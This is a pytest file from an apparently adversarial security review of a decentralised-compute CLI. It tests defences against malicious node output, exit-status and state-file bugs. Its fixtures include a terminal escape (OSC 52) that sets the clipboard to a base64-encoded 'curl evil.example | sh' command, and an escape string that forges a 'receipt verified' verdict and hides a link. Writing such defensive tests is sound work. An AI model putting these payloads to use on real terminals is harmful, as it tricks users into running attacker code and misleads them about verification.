"""Review (adversarial): the users' command line, ``supernet task submit|receipt|verify|omission``
(`supernet.sdk.client_cli`, its key and amount options), and the `Client` calls it makes.

Real parts: a real Anvil with the real contracts (``network``), the real node service keyed as
the staked `Actors.node` on the real `Web3Chain`, run by its own ``run_forever`` (uvicorn on a
port, batches committed on Anvil) in a thread of its own; only its kernel is the FAKE executor of
tests/node_fixtures.py, here answering whatever the malicious node wants (its own receipt commits
that answer honestly: the node is the attacker). A lying layer round the node's ASGI app stands
for the rest of what a node may send. The CLI runs in-process under typer's runner
(``color=True``: what a terminal gets), the SDK `Client` and `ClientState` as they are.

Found:

1. MEDIUM, FIXED  the streamed answer reached the terminal raw: `supernet.sdk.display.shown` escapes it.
2. MEDIUM, FIXED  node strings in details and errors: `shown` on each, one line; ``traceCid`` a CID.
3. MEDIUM, FIXED  ``submit`` exited 0 on a failed receipt: ``_conclude`` gives it ``verify``'s 2 / 3.
4. MEDIUM, FIXED  parallel runs lost records: ``ClientState.save`` merges under ``flock(client-state.lock)``.
5. LOW, FIXED  state directory at the umask: created (or tightened to) 0700; refused if others may write it.

Checked and holding:

* ``task verify`` exits 2 on a failed check whatever the node's strings print;
  ``task receipt`` prints the node's document as JSON (control characters escaped, fields the node
  adds dropped by the `ReceiptPublic` model).
* ``client-state.json`` (and its temp file, and the lock file) is written 0600 (``mkstemp``), atomically.
* ``--max-fee`` / ``--deposit`` in units (``1gwei``, ``1e15``) and a raw ``--key`` on the command
  line are usage errors before anything connects or signs.
* Read in the code, not re-tested here: the nonce is saved with the "sent" record before the POST
  (`ClientState.record_sent`), so a crash after signing never reuses a nonce.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import stat
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from chain_fixtures import MODEL_ID, Actors
from node_fixtures import FakeExecutor
from supernet.node.service.chain import Web3Chain
from supernet.node.service.config import NodeSettings
from supernet.node.service.ports import Job, JobResult, TokenSink
from supernet.node.service.runner import NodeService
from supernet.sdk.chain import Contracts
from supernet.sdk.client import Client
from supernet.sdk.client.state import ClientState
from supernet.sdk.client.verify import VerificationReport
from supernet.sdk.client_cli import _print_report
from supernet.sdk.client_cli import app as task_app
from supernet.sdk.devnet.processes import free_port
from supernet.sdk.store.cids import compute_cid, encode_dag
from supernet.sdk.store.embedded import in_process_client
from typer.testing import CliRunner, Result

ESC, BEL = "\x1b", "\x07"
OSC52 = ESC + "]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9ybSB8IHNo" + BEL  # clipboard := a command
# a node string that erases the FAIL line it is printed on, prints an ok line and the verdict
# of a verified receipt, then a link whose text hides where it goes
SPOOF = (
    "\r"
    + ESC
    + "[2K  ok   trace hash: all good\nreceipt verified\n"
    + ESC
    + "]8;;https://evil.example/"
    + BEL
    + "docs"
    + ESC
    + "]8;;"
    + BEL
)
OWN_STYLE = re.compile(r"\x1b\[(?:3[0-9]|0)m")  # the CLI's own ok/FAIL colours (typer.style)


def _foreign_controls(output: str) -> list[str]:
    """Control characters in ``output`` other than newlines and the CLI's own colour codes."""
    return [c for c in OWN_STYLE.sub("", output) if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0]


@dataclass
class HostileExecutor(FakeExecutor):
    """The FAKE kernel of a malicious node: every task is answered with ``answer`` (committed in the
    node's signed receipt like any output)."""

    answer: str = "hello"

    def model_ids(self) -> list[str]:
        return ["0x" + MODEL_ID.hex()]  # the model this node registered on chain (`network`)

    async def run(
        self, job: Job, on_token: TokenSink, on_event: Any = None, on_result: Any = None
    ) -> JobResult:
        self.runs.append(job.task_id)
        on_token(self.answer)
        await asyncio.sleep(0)
        return JobResult(output=self.answer, trace_cid=compute_cid(encode_dag({"in": "x"}), "dag-cbor"))


class Lying:
    """ASGI layer round the node's app: while ``rules`` names a path suffix, that JSON answer is
    replaced by ``rule(status, doc) -> (status, doc)`` (Content-Length fixed)."""

    def __init__(self, app: Any) -> None:
        self.app = app
        self.rules: dict[str, Callable[[int, Any], tuple[int, Any]]] = {}

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        rule = next((r for s, r in self.rules.items() if scope.get("path", "").endswith(s)), None)
        if scope["type"] != "http" or rule is None:
            await self.app(scope, receive, send)
            return
        start: dict[str, Any] = {}
        chunks: list[bytes] = []

        async def capture(message: Any) -> None:
            if message["type"] == "http.response.start":
                start.update(message)
                return
            chunks.append(message.get("body", b""))
            if message.get("more_body"):
                return
            status, doc = rule(start["status"], json.loads(b"".join(chunks) or b"null"))
            body = json.dumps(doc).encode()
            headers = [(k, v) for k, v in start["headers"] if k.lower() != b"content-length"]
            headers.append((b"content-length", str(len(body)).encode()))
            await send({**start, "status": status, "headers": headers})
            await send({"type": "http.response.body", "body": body})

        await self.app(scope, receive, capture)


class ServedNode:
    """The real node service (FAKE kernel; real `Web3Chain` on the test's Anvil, keyed as the staked
    `Actors.node`; batches of one committed within 0.2 s) served by its own ``run_forever`` on a
    port, in a thread with its own event loop, as the CLI reaches any node."""

    def __init__(self, network: Contracts, actors: Actors, tmp: Path, executor: FakeExecutor) -> None:
        self.network, self.actors, self.tmp, self.executor = network, actors, tmp, executor
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.lying: Lying | None = None
        self._ready = threading.Event()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._service: NodeService | None = None
        self._error: BaseException | None = None
        self._thread = threading.Thread(target=self._main, daemon=True)

    def _main(self) -> None:
        try:
            asyncio.run(self._serve())
        except BaseException as exc:  # surfaced by __enter__
            self._error = exc
            self._ready.set()

    async def _serve(self) -> None:
        self._loop = asyncio.get_running_loop()
        store = in_process_client(self.tmp / "store")
        cfg = NodeSettings.load(
            None,
            data_dir=self.tmp / "node",
            api={"host": "127.0.0.1", "port": self.port},
            batch={"max_size": 1, "max_age_s": 0.2},
            log_level="WARNING",
        )
        service = NodeService(
            cfg, self.executor, self.actors.node, store, Web3Chain(self.network, self.actors.node)
        )
        self._service = service
        await service.setup()
        assert service.app is not None
        self.lying = Lying(service.app)
        service.app = self.lying  # type: ignore[assignment]
        self._loop.call_later(0.3, self._ready.set)
        try:
            await service.run_forever()
        finally:
            await service.cleanup()
            await store.aclose()

    def __enter__(self) -> ServedNode:
        # the node's registered endpoint is where it serves (as ``ensure_registered`` makes it): the
        # client sends read grants only to a node's registered endpoint (`Client._read_auth`)
        self.network.as_account(self.actors.node).service_manager.update_endpoint(self.url)
        self._thread.start()
        assert self._ready.wait(60), "the node did not start"
        if self._error is not None:
            raise self._error
        return self

    def __exit__(self, *exc: object) -> None:
        if self._loop is not None and self._service is not None:
            self._loop.call_soon_threadsafe(self._service.stop)
        self._thread.join(30)


def _chain_args(network: Contracts, tmp: Path) -> list[str]:
    dep = network.deployment.save(tmp / "deployment.json")
    rpc = network.w3.provider.endpoint_uri  # type: ignore[attr-defined]
    return ["--rpc", rpc, "--deployment", str(dep), "--state-dir", str(tmp / "state")]


def _cli(network: Contracts, user: Any, tmp: Path, *args: str) -> Result:
    """``supernet task ARGS`` as a terminal user runs it (key from the environment)."""
    env = {"SUPERNET_USER_KEY": "0x" + bytes(user.key).hex()}
    return CliRunner().invoke(task_app, [*args, *_chain_args(network, tmp)], env=env, color=True)


def _task_id(result: Result) -> str:
    found = re.search(r"\ntask (0x[0-9a-f]{64}) on ", result.output)
    assert found is not None, result.output
    return found.group(1)


# ------------------------------------------------------------------ what the terminal is shown


@pytest.mark.anvil
def test_defence_submit_writes_the_nodes_terminal_escapes_raw(
    network: Contracts, actors: Actors, tmp_path: Path
) -> None:
    """MEDIUM. A node (or a model a web page prompt-injected) answers ``Paris.`` followed by an OSC 52
    sequence; ``supernet task submit`` writes the streamed text with ``sys.stdout.write`` as it
    comes, so the user's terminal sets the clipboard to the attacker's command (pasted later into
    a shell), and OSC 8 / cursor sequences can rewrite what the screen shows. The answer check runs
    after the text is shown and passes (the node's receipt commits exactly that text).

    Who gains: any node a user submits to, or anyone who steers its model's output.
    Fix (by design): one display function for every node-supplied string the CLI prints (stream,
    report details, errors): when stdout is a terminal, C0/C1 controls other than newline and tab
    are shown escaped (``\\x1b``, or caret notation); ``--raw`` (or a pipe) for the exact bytes."""
    with ServedNode(network, actors, tmp_path, HostileExecutor(answer="Paris." + OSC52)) as node:
        result = _cli(
            network, actors.users[0], tmp_path, "submit", "capital?", "--node", node.url, "--no-verify"
        )
        raw = _cli(
            network, actors.users[0], tmp_path, "submit", "again?", "--node", node.url, "--no-verify", "--raw"
        )
    # asked for: the checked answer's exact bytes, alone on stdout (the task line on stderr)
    assert raw.exit_code == 0 and raw.stdout_bytes == ("Paris." + OSC52).encode(), raw.output
    assert "\ntask 0x" in raw.stderr, raw.stderr
    assert result.exit_code == 0, result.output  # a clean answer by every check: the node's own
    assert "Paris." in result.output
    assert _foreign_controls(result.output) == [], (
        f"raw control characters reached the terminal: {result.output!r}"
    )


@pytest.mark.anvil
def test_defence_verify_report_prints_node_strings_raw_and_spoofs_the_verdict(
    network: Contracts, actors: Actors, tmp_path: Path
) -> None:
    """MEDIUM. ``task verify`` prints ``  FAIL <name>: <detail>`` for each check; the details of
    "trace hash" and "trace in store" are the ``traceCid`` string of the node's receipt document
    (any string: `ReceiptPublic.traceCid` is ``str``). A node serving ``SPOOF`` there makes the
    terminal erase the FAIL line, show ``ok   trace hash: all good`` and a ``receipt verified``
    line of its own, and a link that hides its target. The exit status is still 2 (holding), but
    the person reading the report is told the receipt verified. The one-line errors carry the
    node's error ``message`` the same way (a ``503`` from ``/healthz`` here).

    Who gains: a cheating node, whose user then neither disputes nor claims.
    Fix (by design): the display function of finding 1 for every detail and error line (one
    line each: newlines escaped too), and `ReceiptPublic.traceCid` typed as a CID (refused as a
    malformed answer otherwise).

    Since the fix: a ``traceCid`` that is no CID is refused as a malformed receipt (``verify`` and
    ``receipt`` exit 1, their error line escaped); the verdict and ``receipt`` assertions of the
    review hold with ``SPOOF`` where the model still takes any string (the receipt's ``user``); a
    report whose detail is ``SPOOF`` prints it as one escaped line."""
    user = actors.users[0]
    with ServedNode(network, actors, tmp_path, HostileExecutor(answer="hello")) as node:
        done = _cli(network, user, tmp_path, "submit", "hi", "--node", node.url, "--no-verify")
        assert done.exit_code == 0, done.output
        task_id = _task_id(done)
        assert node.lying is not None

        def lie(status: int, doc: Any) -> tuple[int, Any]:
            return status, {**doc, "traceCid": SPOOF, "verified": True}

        def lie_in_a_string(status: int, doc: Any) -> tuple[int, Any]:
            return status, {**doc, "receipt": {**doc["receipt"], "user": SPOOF}, "verified": True}

        node.lying.rules["/receipt"] = lie
        malformed = _cli(network, user, tmp_path, "verify", task_id, "--wait", "0")
        malformed_receipt = _cli(network, user, tmp_path, "receipt", task_id)
        node.lying.rules["/receipt"] = lie_in_a_string
        verify = _cli(network, user, tmp_path, "verify", task_id, "--wait", "0")
        receipt = _cli(network, user, tmp_path, "receipt", task_id)
        node.lying.rules = {"/healthz": lambda s, d: (503, {"error": {"code": "busy", "message": SPOOF}})}
        refused = _cli(network, user, tmp_path, "submit", "again", "--node", node.url, "--no-verify")
    # holding: the verdict a script reads, and the JSON of `task receipt`
    assert verify.exit_code == 2, verify.output
    assert receipt.exit_code == 0 and _foreign_controls(receipt.output) == [], receipt.output
    assert '"verified"' not in receipt.output, "a field the node added is not printed"
    assert refused.exit_code == 1, refused.output
    # the attack: the node's strings are printed raw
    lines = verify.output.splitlines()
    assert "receipt verified" not in lines, f"the node printed a verdict line: {verify.output!r}"
    assert _foreign_controls(verify.output) == [], f"raw controls in the report: {verify.output!r}"
    assert _foreign_controls(refused.output) == [], f"raw controls in the error line: {refused.output!r}"
    # the fix: a traceCid that is no CID is a malformed receipt, refused on one escaped line
    for run in (malformed, malformed_receipt):
        assert run.exit_code == 1 and "malformed answer" in run.output, run.output
        assert "traceCid" in run.output and _foreign_controls(run.output) == [], run.output
        assert "receipt verified" not in run.output.splitlines(), run.output
    # and any detail (the trace's strings are the node's too) is one escaped line
    report = VerificationReport("0x" + "00" * 32)
    report.add("trace hash", False, SPOOF)
    with CliRunner().isolation(color=True) as (out, _err, _):  # the terminal a typer runner gives
        _print_report(report)
        printed = out.getvalue().decode()
    assert len(printed.splitlines()) == 2 and printed.splitlines()[1] == "receipt NOT verified", printed
    assert "FAIL" in printed and _foreign_controls(printed) == [], printed


# ------------------------------------------------------------------ exit status


@pytest.mark.anvil
def test_defence_submit_exits_0_when_its_receipt_fails_verification(
    network: Contracts, actors: Actors, tmp_path: Path
) -> None:
    """MEDIUM. ``supernet task submit`` verifies by default and prints ``receipt NOT verified``, yet
    exits 0 (only ``task verify`` maps the report to 2/3). Here the node commits its receipt on
    chain but serves no trace (its store does not have it: nothing a validator could replay), and
    a script ``supernet task submit "$Q" > answer && use answer`` takes it as a good answer.

    Who gains: a node that withholds traces (or fails any other check) from scripted users.
    Fix (by design): ``submit`` ends with ``verify``'s exit statuses (2 a check failed, 3 pending),
    one helper shared by both commands; ``--no-verify`` keeps 0 for an answer that passed the
    answer check."""
    with ServedNode(network, actors, tmp_path, HostileExecutor(answer="hello")) as node:
        result = _cli(network, actors.users[0], tmp_path, "submit", "hi", "--node", node.url)
    assert "receipt NOT verified" in result.output, result.output
    assert "FAIL" in OWN_STYLE.sub("", result.output)
    assert result.exit_code == 2, f"submit exited {result.exit_code} after a failed verification"


# ------------------------------------------------------------------ the state directory


@pytest.mark.anvil
def test_defence_two_runs_on_one_state_dir_lose_a_task_record(
    network: Contracts, actors: Actors, tmp_path: Path
) -> None:
    """MEDIUM. Two ``supernet task submit`` runs at once on one ``--state-dir`` (two terminals, a
    script running tasks in parallel): each `Client` loads ``client-state.json`` when it starts and
    later writes its whole in-memory state back (atomic per write, but no lock and no re-read).
    Played here deterministically with the real `Client`: run A and run B both start; A's task
    completes and is saved; B's task completes and B's save replaces the file. A's `TaskRecord`
    (its signed request and the node's signed promise) is gone: ``task verify A`` says the task is
    unknown, and an omission or refund claim for it is no longer possible (the node was paid).

    Who gains: a node that breaks its promise on the lost task (nobody can claim).
    Fix (by design): every state change is a read-modify-write under an exclusive lock
    (``fcntl.flock`` on ``<state_dir>/client-state.lock``) that re-reads the file and merges this
    run's changes (tasks keyed by id, nonces and totals by max) before the atomic replace; or one
    file per task record, the accounts file alone under the lock."""
    user = actors.users[1]
    args = _chain_args(network, tmp_path)
    rpc, dep, state_dir = args[1], Path(args[3]), Path(args[5])

    async def two_runs(url: str) -> tuple[str, str]:
        a = Client.connect(rpc, dep, user, state_dir=state_dir)
        b = Client.connect(rpc, dep, user, state_dir=state_dir)  # started while A runs
        async with a, b:
            first = await a.submit_task("first", node_url=url)
            second = await b.submit_task("second", node_url=url)
        return first.task_id, second.task_id

    with ServedNode(network, actors, tmp_path, HostileExecutor(answer="hello")) as node:
        first, second = asyncio.run(two_runs(node.url))
        kept = ClientState.open(state_dir).tasks
        verify = _cli(network, user, tmp_path, "verify", first, "--wait", "0")
    assert second in kept, "the last run's task is recorded"
    assert first in kept, (
        f"task {first} of the first run was dropped from the state; `verify`: {verify.output}"
    )


def test_defence_state_dir_is_created_with_the_umask_not_0700(tmp_path: Path) -> None:
    """LOW. `ClientState.save` creates the state directory (``~/.supernet`` by default) with
    ``mkdir(parents=True)``: 0755 under umask 022, 0777 under umask 0 (containers, some CI images).
    The file itself is 0600 (holding), but in a world-writable directory any local user may delete
    or rename it (no sticky bit) and put a forged state in its place: tasks and their promises
    gone (no omission claim), node URLs changed.

    Fix (by design): create the directory ``mode=0o700`` and ``chmod`` it so when this code made it
    (as the keystore and the node's key file are made 0600 whatever the umask); refuse to use a
    state directory writable by others."""
    old = os.umask(0)
    try:
        ClientState.open(tmp_path / "state").save()
    finally:
        os.umask(old)
    file_mode = stat.S_IMODE(os.stat(tmp_path / "state" / "client-state.json").st_mode)
    assert file_mode == 0o600, oct(file_mode)  # holding: mkstemp's mode
    dir_mode = stat.S_IMODE(os.stat(tmp_path / "state").st_mode)
    assert dir_mode & 0o077 == 0, f"state directory created {oct(dir_mode)}"


def test_defence_state_file_is_0600_and_written_atomically(tmp_path: Path) -> None:
    """``client-state.json`` holds the user's inputs, outputs and signed requests: it is written
    through ``mkstemp`` (0600) and ``os.replace``, so it is never readable by others, even when an
    older file was 0644, and no temp file is left behind (the lock file of `ClientState.save`,
    empty and 0600, is)."""
    state_dir = tmp_path / "state"
    state_dir.mkdir()
    (state_dir / "client-state.json").write_text("{}")
    os.chmod(state_dir / "client-state.json", 0o644)
    st = ClientState.open(state_dir)
    st.record_sent("0x" + "ab" * 32, "0x" + "11" * 20, "http://n", "secret prompt", "0x00", 1, {"a": "b"})
    assert stat.S_IMODE(os.stat(state_dir / "client-state.json").st_mode) == 0o600
    # no temp file left; the lock file of concurrent saves (0600, empty) stays
    assert sorted(p.name for p in state_dir.iterdir()) == ["client-state.json", "client-state.lock"]
    assert stat.S_IMODE(os.stat(state_dir / "client-state.lock").st_mode) == 0o600
    assert "secret prompt" in (state_dir / "client-state.json").read_text()


# ------------------------------------------------------------------ options


def test_defence_amounts_in_units_and_a_raw_key_are_usage_errors_before_anything_connects(
    tmp_path: Path,
) -> None:
    """``--max-fee`` and ``--deposit`` are wei as integers (``--offer`` takes units): a user typing
    ``--max-fee 1gwei`` or ``1e15`` gets a usage error (exit 2), not a different cap; a negative
    ``--max-fee`` is refused by the client before any deposit (test_review_cli_config); a raw key
    typed as ``--key`` is refused (it would show in ``ps``). Nothing connects: the RPC URL is one
    nobody listens on."""
    base = ["submit", "hi", "--rpc", "http://127.0.0.1:9", "--deployment", str(tmp_path / "none.json")]
    key = "0x" + "11" * 32
    env = {"SUPERNET_USER_KEY": key}
    for extra in (
        ["--max-fee", "1gwei"],
        ["--max-fee", "1e15"],
        ["--deposit", "0.01ether"],
    ):
        result = CliRunner().invoke(task_app, [*base, *extra], env=env)
        assert result.exit_code == 2, (extra, result.output)
    typed = CliRunner().invoke(task_app, [*base, "--key", key])
    assert typed.exit_code == 2 and "ps" in typed.output, typed.output
